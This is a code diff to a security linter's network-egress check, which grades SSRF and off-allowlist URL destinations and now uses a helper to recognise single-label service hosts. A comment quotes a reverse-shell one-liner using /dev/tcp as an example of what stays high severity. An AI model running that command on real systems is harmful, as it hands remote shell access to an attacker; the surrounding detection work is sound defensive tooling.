@@ -1,5 +1,5 @@
 /** network-egress: untrusted destinations (SSRF) and constant destinations off the allowlist. */
-import { classifyUrl } from '../../policy/urls.js';
+import { classifyUrl, isSingleLabelName } from '../../policy/urls.js';
 import { absentMember, argumentPart, HOLE_MARKER, HOLE_PREFIX, sanitizersOf, skeleton, taintOf } from '../values.js';
 import { calleeText, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Value } from '../facts.js';
@@ -225,7 +225,7 @@ export const urlAllowlist: Check = {
     // localhost, `0.0.0.0`) is usually intended, and so is a single-label name (`http://api:8000`, `http://searxng:8080`):
     // a Compose or Kubernetes service of the deployment's own, which only its network resolves. (A private address
     // written as a number stays at the rule's severity: `bash -i >& /dev/tcp/10.0.0.1/4444` is a reverse shell.)
-    const service = allow === null && verdict.destination === 'private' && !verdict.ip && !!verdict.host && !verdict.host.includes('.');
+    const service = allow === null && verdict.destination === 'private' && !verdict.ip && !!verdict.host && isSingleLabelName(verdict.host);
     return {
       message: `\`${calleeText(ctx, hit.call)}\` reaches ${quote(verdict.host ?? origin)}: ${verdict.reason ?? 'not in network.allow'}${service ? '; a single-label name is usually a service of the deployment\'s own network (Compose, Kubernetes), so it is graded low' : ''}.`,
       ...(verdict.destination === 'metadata' ? { severity: 'high' as const } : allow === null && (verdict.destination === 'this-host' || service) ? { severity: 'low' as const } : {}),
